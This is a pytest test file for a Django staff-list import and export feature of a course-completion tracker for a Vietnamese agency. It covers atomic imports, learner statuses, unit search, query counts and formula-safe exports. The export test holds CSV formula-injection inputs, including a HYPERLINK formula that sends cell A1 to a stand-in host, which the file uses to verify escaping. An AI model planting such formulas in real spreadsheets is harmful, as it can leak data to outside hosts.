"""An agency's staff list: the import sets learners' groups and units (all rows or none), people listed
before they start are attached when they appear, statuses and the accent-free unit search, exports whose
every cell is formula-safe, and a number of queries that does not grow with the list."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from graders.agencies.roster import RosterError
from graders.agencies.staff_list import (
    EXPORT_HEADERS,
    StaffListRefused,
    export_csv,
    export_xlsx,
    import_staff_list,
    staff_rows,
    status_counts,
    status_of,
)
from graders.models import Agency, AgencyMember, LearnerLink
from graders.pipeline.completion import evaluate_learners
from graders.pipeline.intake import LearnerInfo, ProgressEvent, link_learner, record_progress
from tests.unit.pipeline.mini_course import COURSE_ID

from . import rows

pytestmark = pytest.mark.django_db
HEADER = "Mã người học,Tên đăng nhập,Họ và tên,Đơn vị,Nhóm,Hạn hoàn thành\n"
TODAY = dt.date(2026, 12, 1)


@pytest.fixture
def agency(mini_course):
    return Agency.objects.create(name="UBND Quận 1", course_id=COURSE_ID)


def test_the_import_sets_known_learners_groups_and_units_and_queues_them_for_evaluation(agency):
    link_learner(LearnerInfo("u1", subject_id="sub-1", group="nguoi_dan"))
    before = LearnerLink.objects.get(lms_user_id="u1").progress_version
    summary = import_staff_list(agency, (HEADER + "sub-1,,Nguyễn Văn An,UBND phường Tân Định,Cán bộ,31/12/2026\n"
                                                  ",chua_hoc,Trần Thị Bình,Phòng Tư pháp,,\n").encode())
    assert (summary.people, summary.linked, summary.groups_changed) == (2, 1, 1)
    learner = LearnerLink.objects.get(lms_user_id="u1")
    assert (learner.group, learner.unit) == ("can_bo_cong_chuc", "UBND phường Tân Định")
    assert learner.progress_version == before + 1  # the evaluator sees a change (a new rule applies)
    member = AgencyMember.objects.get(agency=agency, subject_id="sub-1")
    assert (member.learner_id, member.unit_key, member.deadline) == (learner.pk, "ubnd phuong tan dinh",
                                                                     dt.date(2026, 12, 31))


def test_one_bad_row_imports_nothing_and_the_old_list_stays(agency):
    import_staff_list(agency, (HEADER + "sub-1,,An,Phòng A,,\n").encode())
    link_learner(LearnerInfo("u2", subject_id="sub-2", group="nguoi_dan"))
    with pytest.raises(StaffListRefused) as refused:
        import_staff_list(agency, (HEADER + "sub-2,,Bình,Phòng B,can_bo_cong_chuc,\n"
                                            "sub-3,,Chi,Phòng B,khong_co,\n").encode())
    assert refused.value.problems[0].startswith("dòng 3:")
    assert list(AgencyMember.objects.values_list("subject_id", flat=True)) == ["sub-1"]
    assert LearnerLink.objects.get(lms_user_id="u2").group == "nguoi_dan"
    with pytest.raises(RosterError):
        import_staff_list(agency, b"Ho va ten\nAn\n")


def test_a_username_two_learners_share_is_refused_naming_the_line(agency):
    link_learner(LearnerInfo("lms-1", username="an"))
    link_learner(LearnerInfo("lms-2", username="an"))
    with pytest.raises(StaffListRefused, match="1 rows refused") as refused:
        import_staff_list(agency, (HEADER + ",an,An,,,\n").encode())
    assert refused.value.problems[0].startswith("dòng 2: có 2 người học cùng tên đăng nhập")


def test_someone_listed_before_they_start_is_attached_with_the_lists_group_when_they_appear(agency):
    import_staff_list(agency, (HEADER + ",moi_den,Lê Văn Cường,Phòng Nội vụ,can_bo_cong_chuc,\n").encode())
    assert status_of(staff_rows(agency).get()) == "not_started"
    record_progress([ProgressEvent(LearnerInfo("lms-77", username="moi_den"), COURSE_ID, "s1_mo_khoa",
                                   earned=1, possible=1, completed=True)])
    learner = LearnerLink.objects.get(lms_user_id="lms-77")
    assert (learner.group, learner.unit) == ("can_bo_cong_chuc", "Phòng Nội vụ")
    member = staff_rows(agency).get()
    assert member.learner_id == learner.pk and status_of(member) == "in_progress"


def test_finished_comes_from_a_certificate_really_issued_and_a_revoked_one_does_not_count(agency):
    info = LearnerInfo("u9", display_name="Phạm Thị Dung", subject_id="sub-9", group="nguoi_dan")
    record_progress([ProgressEvent(info, COURSE_ID, url, earned=earned, possible=possible, completed=True)
                     for url, earned, possible in (("s1_mo_khoa", 1, 1), ("q1_thiet_bi", 9, 10))])
    evaluate_learners([LearnerLink.objects.get(lms_user_id="u9").pk])
    revoked, _unstarted = rows.learners(2, prefix="r")
    rows.finished([revoked], COURSE_ID, revoked=True)
    import_staff_list(agency, (HEADER + "sub-9,,Phạm Thị Dung,,,\nsub-r0,,Bị thu hồi,,,\nsub-r1,,Chưa học,,,\n")
                      .encode())
    statuses = {member.name: status_of(member) for member in staff_rows(agency)}
    assert statuses == {"Phạm Thị Dung": "finished", "Bị thu hồi": "not_started", "Chưa học": "not_started"}
    assert status_counts(agency) == {"total": 3, "finished": 1, "in_progress": 0, "not_started": 2}


def _list(count: int, agency: Agency) -> None:
    links = rows.learners(count, prefix=f"n{count}-")
    rows.started(links[: count // 2], COURSE_ID)
    rows.finished(links[: count // 4], COURSE_ID)
    units = ["UBND phường Tân Định", "UBND phường Bến Nghé", "Phòng Tư pháp"]
    body = "".join(f"{link.subject_id},,Người {n},{units[n % 3]},,31/12/2026\n" for n, link in enumerate(links))
    import_staff_list(agency, (HEADER + body).encode())


def test_the_unit_search_ignores_accents_and_case(agency):
    _list(12, agency)
    assert staff_rows(agency, unit="ubnd PHUONG tan dinh").count() == 4
    assert staff_rows(agency, unit="Tân Định").count() == 4
    assert staff_rows(agency, unit="phuong").count() == 8
    assert staff_rows(agency, unit="tan dinh", status="not_finished").count() == 3
    assert status_counts(agency, unit="tu phap") == {"total": 4, "finished": 1, "in_progress": 1, "not_started": 2}


def _queries(agency: Agency) -> int:
    with CaptureQueriesContext(connection) as captured:
        page = list(staff_rows(agency, unit="phuong", status="not_finished")[:50])
        [status_of(member) for member in page]
        status_counts(agency, unit="phuong")
        export_csv(agency, staff_rows(agency), TODAY)
    return len(captured.captured_queries)


def test_the_number_of_queries_does_not_grow_with_the_list(mini_course):
    small, large = (Agency.objects.create(name=name, course_id=COURSE_ID) for name in ("Nhỏ", "Lớn"))
    _list(8, small)
    _list(240, large)
    assert _queries(small) == _queries(large) <= 4


def test_exports_have_vietnamese_headers_and_every_text_cell_is_formula_safe(agency):
    import_staff_list(agency, (HEADER + 'sub-1,,"=HYPERLINK(""http://x/?""&A1,""Bấm"")",@SUM(1),,31/12/2026\n'
                                        "sub-2,,+Trần,-Phòng,,\n").encode())
    table = list(csv.reader(io.StringIO(export_csv(agency, staff_rows(agency), TODAY).decode("utf-8-sig"))))
    assert tuple(table[0]) == EXPORT_HEADERS
    cells = [cell for row in table[1:] for cell in row]
    assert "'=HYPERLINK(\"http://x/?\"&A1,\"Bấm\")" in cells and "'@SUM(1)" in cells and "'+Trần" in cells
    sheet = load_workbook(io.BytesIO(export_xlsx(agency, staff_rows(agency), TODAY))).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == EXPORT_HEADERS
    assert all(not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@"))) for row in values for cell in row)
    assert [cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value].count("f") == 0
    first = next(dict(zip(EXPORT_HEADERS, row, strict=True)) for row in values[1:] if row[3] == "'@SUM(1)")
    assert (first["Trạng thái"], first["Hạn hoàn thành"].date(), first["Số ngày còn lại"]) == (
        "Chưa bắt đầu", dt.date(2026, 12, 31), 30)
